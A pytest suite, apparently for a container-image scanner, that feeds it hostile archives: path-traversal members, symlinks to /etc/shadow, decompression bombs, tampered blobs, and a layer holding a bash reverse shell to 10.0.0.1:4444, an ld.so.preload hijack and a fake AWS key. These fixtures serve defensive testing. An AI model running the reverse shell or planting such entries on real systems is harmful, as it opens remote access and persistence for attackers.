"""Hostile archives: each case gets a clear error or a logged skip, bounded memory, nothing written."""

from __future__ import annotations

import gzip
import io
import json
import os
import subprocess
import sys
import tarfile
import tracemalloc
from pathlib import Path

import pytest
import zstandard

from craft import LayerSpec, Member, build_docker_archive, build_oci_layout, make_tar, sha256, write_blob
from lashing.analyzers.image import analyze_image
from lashing.analyzers.interface import AnalysisInput, AnalysisResult, Analyzer, FileInfo
from lashing.errors import DigestMismatchError, InvalidImageError, LimitExceededError, UsageError
from lashing.sources.image.detect import open_target
from lashing.sources.image.interface import Limits


class Recorder(Analyzer):
    """Wants every regular file and records what it was shown."""

    name = "recorder"
    version = 1

    def __init__(self) -> None:
        self.seen: dict[str, bytes] = {}

    def required(self, path: str, info: FileInfo) -> bool:
        return True

    def analyze(self, item: AnalysisInput) -> AnalysisResult | None:
        self.seen[item.path] = item.content
        return None


def _scan(root: Path, limits: Limits | None = None) -> tuple[Recorder, object]:
    rec = Recorder()
    kwargs = {"limits": limits} if limits else {}
    with open_target(str(root), **kwargs) as source:
        result = analyze_image(source, [rec], **kwargs)
    return rec, result


def test_traversal_links_and_devices_are_skipped_or_never_read(tmp_path: Path) -> None:
    root = tmp_path / "layout"
    build_oci_layout(
        root,
        [
            LayerSpec(
                [
                    Member("../../../../tmp/evil", b"escape"),
                    Member("/etc/absolute", b"inside"),
                    Member("a/../../b", b"escape2"),
                    Member("etc/passwd-link", kind="symlink", link="../../../../etc/passwd"),
                    Member("etc/abs-link", kind="symlink", link="/etc/shadow"),
                    Member("etc/hard-escape", kind="hardlink", link="../../etc/shadow"),
                    Member("dev/null", kind="char"),
                    Member("dev/pipe", kind="fifo"),
                    Member("ok.txt", b"fine"),
                ]
            )
        ],
    )
    rec, result = _scan(root)
    assert rec.seen == {"etc/absolute": b"inside", "ok.txt": b"fine"}
    warnings = "\n".join(result.warnings)
    assert "escaping the image root" in warnings and "../../../../tmp/evil" in warnings
    assert "hardlink escaping" in warnings
    kinds = {v.record.path: v.record.kind for v in result.filesystem.visible_files()}
    assert kinds["etc/passwd-link"] == "symlink" and kinds["dev/null"] == "other"
    assert not (tmp_path.parent / "tmp" / "evil").exists()


@pytest.mark.parametrize("how", ["gzip", "zstd"])
def test_decompression_bomb_is_stopped_with_bounded_memory(tmp_path: Path, how: str) -> None:
    tar = make_tar([Member("zeros", b"\0" * (48 * 1024 * 1024))])
    blob = (
        gzip.compress(tar, compresslevel=9)
        if how == "gzip"
        else zstandard.ZstdCompressor(level=19).compress(tar)
    )
    root = tmp_path / "layout"
    build_oci_layout(root, [LayerSpec([], compression=how, raw=blob, diff_id=sha256(tar))])
    limits = Limits(max_compression_ratio=100, ratio_grace_bytes=4 * 1024 * 1024)
    tracemalloc.start()
    try:
        with pytest.raises(LimitExceededError, match="decompression bomb"):
            _scan(root, limits)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 32 * 1024 * 1024


def test_layer_size_bound(tmp_path: Path) -> None:
    root = tmp_path / "layout"
    build_oci_layout(root, [LayerSpec([Member("big", os.urandom(3 * 1024 * 1024))], compression="none")])
    with pytest.raises(LimitExceededError):
        _scan(root, Limits(max_layer_bytes=1024 * 1024))


def test_member_claiming_more_bytes_than_the_stream_has(tmp_path: Path) -> None:
    header = tarfile.TarInfo("huge")
    header.size = 8 * 1024**3
    truncated = header.tobuf(format=tarfile.GNU_FORMAT) + b"x" * 1024
    root = tmp_path / "layout"
    build_oci_layout(root, [LayerSpec([], compression="none", raw=truncated)])
    with pytest.raises(InvalidImageError, match=r"truncated|corrupt|ends in the middle"):
        _scan(root)


def test_huge_pax_header_is_refused(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo("x")
        info.pax_headers = {"comment": "A" * (2 * 1024 * 1024)}
        tar.addfile(info, io.BytesIO(b""))
    root = tmp_path / "layout"
    build_oci_layout(root, [LayerSpec([], compression="none", raw=buf.getvalue())])
    with pytest.raises(LimitExceededError, match="PAX header"):
        _scan(root)


def test_tampered_blob_and_wrong_diff_id_are_detected(tmp_path: Path) -> None:
    root = tmp_path / "layout"
    built = build_oci_layout(root, [LayerSpec([Member("f", b"data" * 100)])])
    blob_file = root / "blobs" / "sha256" / sha256(built.layer_blobs[0])[7:]
    original = blob_file.read_bytes()
    blob_file.write_bytes(original[:-8] + bytes(8 * [0x41]))
    with pytest.raises(InvalidImageError):
        _scan(root)
    # Right blob, lying config: the uncompressed bytes do not hash to the declared diff_id.
    root2 = tmp_path / "layout2"
    tar = make_tar([Member("f", b"data")])
    build_oci_layout(
        root2, [LayerSpec([], compression="gzip", raw=gzip.compress(tar), diff_id=sha256(b"other"))]
    )
    with pytest.raises(DigestMismatchError, match="tar digest mismatch"):
        _scan(root2)


def _rewrite_index(root: Path, manifests: list[dict]) -> None:
    (root / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": manifests}))


def test_deeply_nested_indexes_are_refused(tmp_path: Path) -> None:
    root = tmp_path / "layout"
    built = build_oci_layout(root, [LayerSpec([Member("f", b"x")])])
    desc = {
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "digest": built.manifest_digest,
        "size": (root / "blobs/sha256" / built.manifest_digest[7:]).stat().st_size,
    }
    for _ in range(8):
        data = json.dumps(
            {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": [desc]}
        ).encode()
        desc = {
            "mediaType": "application/vnd.oci.image.index.v1+json",
            "digest": write_blob(root, data),
            "size": len(data),
        }
    _rewrite_index(root, [desc])
    with pytest.raises(InvalidImageError, match="nest deeper"):
        _scan(root)


@pytest.mark.parametrize(
    "manifests, message",
    [
        ([{"digest": "sha256:../../../etc/passwd", "size": 1}], "invalid index entry digest"),
        ([{"digest": "sha256:" + "a" * 64, "size": 10}], "missing"),
        ([], "lists no manifests"),
        ([{"digest": "sha256:" + "a" * 64, "size": -1}], "no valid size"),
    ],
)
def test_malformed_indexes(tmp_path: Path, manifests: list[dict], message: str) -> None:
    root = tmp_path / "layout"
    build_oci_layout(root, [LayerSpec([Member("f", b"x")])])
    _rewrite_index(root, manifests)
    with pytest.raises(InvalidImageError, match=message):
        _scan(root)


def test_manifest_that_is_not_json_and_layer_count_mismatch(tmp_path: Path) -> None:
    root = tmp_path / "layout"
    build_oci_layout(root, [LayerSpec([Member("f", b"x")])])
    junk = write_blob(root, b"\x00not json")
    _rewrite_index(root, [{"digest": junk, "size": 9}])
    with pytest.raises(InvalidImageError, match="not valid JSON"):
        _scan(root)
    config = json.dumps({"rootfs": {"diff_ids": []}}).encode()
    manifest = json.dumps(
        {
            "schemaVersion": 2,
            "config": {"digest": write_blob(root, config), "size": len(config)},
            "layers": [{"digest": "sha256:" + "b" * 64, "size": 1}],
        }
    ).encode()
    _rewrite_index(root, [{"digest": write_blob(root, manifest), "size": len(manifest)}])
    with pytest.raises(InvalidImageError, match="1 layers but the config has 0"):
        _scan(root)


def test_blob_symlinked_out_of_the_layout_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "layout"
    built = build_oci_layout(root, [LayerSpec([Member("f", b"x")])])
    outside = tmp_path / "outside"
    blob = root / "blobs" / "sha256" / sha256(built.layer_blobs[0])[7:]
    outside.write_bytes(blob.read_bytes())
    blob.unlink()
    blob.symlink_to(outside)
    with pytest.raises(InvalidImageError, match="outside the image layout"):
        _scan(root)


def test_docker_archive_with_several_images_needs_a_tag(tmp_path: Path) -> None:
    built = build_docker_archive(tmp_path / "a.tar", [LayerSpec([Member("f", b"x")], "none")])
    with tarfile.open(built.path) as tar:
        members = {m.name: tar.extractfile(m).read() for m in tar.getmembers()}
    entries = json.loads(members["manifest.json"])
    entries.append(dict(entries[0], RepoTags=["other:2"]))
    members["manifest.json"] = json.dumps(entries).encode()
    with tarfile.open(built.path, "w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    with pytest.raises(UsageError, match="holds 2 images"):
        open_target(str(built.path))
    with open_target(f"{built.path}:other:2") as source:
        assert source.artifact.repo_tags == ("other:2",)


def _cli(*args: str, cwd: Path, env_cache: Path) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, LASHING_CACHE_DIR=str(env_cache))
    return subprocess.run(
        [sys.executable, "-m", "lashing", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_cli_answers_bad_input_with_one_line_and_writes_nothing(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    cases = {
        "notatar.tar": b"this is not a tar archive at all" * 100,
        "empty.tar": b"",
    }
    for name, data in cases.items():
        (work / name).write_bytes(data)
    traversal = tmp_path / "trav"
    build_oci_layout(traversal, [LayerSpec([Member("../../escape", b"x"), Member("ok", b"y")])])
    before = sorted(p.name for p in tmp_path.rglob("*"))
    for target in [*(str(work / n) for n in cases), "/nonexistent/image.tar"]:
        proc = _cli("sbom", target, "--format", "json", cwd=work, env_cache=tmp_path / "cache")
        assert proc.returncode == 2, proc.stderr
        lines = proc.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("lashing: error:"), proc.stderr
        assert "Traceback" not in proc.stderr
    proc = _cli("sbom", str(traversal), "--format", "json", cwd=work, env_cache=tmp_path / "cache")
    assert proc.returncode == 0, proc.stderr
    after = sorted(p.name for p in tmp_path.rglob("*") if "cache" not in p.parts)
    assert [p for p in after if p not in before] == []


def test_image_scan_with_every_scanner_survives_hostile_layers(tmp_path: Path) -> None:
    """`lashing image` runs secrets, malware and hygiene over every file: escaping paths, links and a
    compression bomb-like member must still end in a report or one line, never a traceback."""
    hostile = tmp_path / "hostile"
    build_oci_layout(hostile, [LayerSpec([
        Member("../../escape.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"),
        Member("etc/ld.so.preload", b"/tmp/.x/evil.so\n"),
        Member("srv/zeros.bin", b"\0" * (4 * 1024 * 1024)),
        Member("root/.aws/credentials", b"[default]\naws_access_key_id = AKIAZ3MSJV4WXQ7B2N5K\n"),
    ])])  # fmt: skip
    proc = _cli("image", str(hostile), "--scanners", "secret,malware,config", "--format", "json",
                cwd=tmp_path, env_cache=tmp_path / "cache")
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    ids = {f["id"] for f in json.loads(proc.stdout)["findings"]}
    assert {"LSH-MAL-LD-PRELOAD", "LSH-SECRET-AWS-ACCESS-KEY"} <= ids
    assert not (tmp_path.parent / "escape.sh").exists()
